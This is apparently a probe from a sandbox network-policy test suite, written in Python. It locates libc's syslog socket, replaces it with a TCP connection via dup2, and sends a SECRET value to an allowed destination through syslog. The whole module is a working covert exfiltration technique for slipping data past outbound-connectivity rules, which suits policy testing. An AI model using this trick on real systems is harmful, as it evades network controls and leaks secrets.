# class: network
# rule: outbound_connectivity
# policy: names.yaml
# success: a connection takes the place of the fd that libc keeps for the system's log
# proof: word
# needs: resolver, log
# quiet: libc keeps no fd for the log where the policy blocks
import os
import socket
import syslog

from attack import SECRET, at_allowed, attempt


def log_fd():
    for fd in range(3, 64):
        try:
            log = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM, fileno=fd)
        except OSError:
            continue
        try:
            if log.getpeername() == "/dev/log":
                return fd
        except OSError:
            pass
        finally:
            log.detach()
    raise LookupError("libc keeps no socket of the log")


@attempt
def log():
    def say(place):
        syslog.openlog("x", syslog.LOG_NDELAY)
        out = socket.socket()
        os.dup2(out.fileno(), log_fd())
        out.connect(place)
        syslog.syslog(SECRET)
        return out

    return at_allowed(say, first=False)
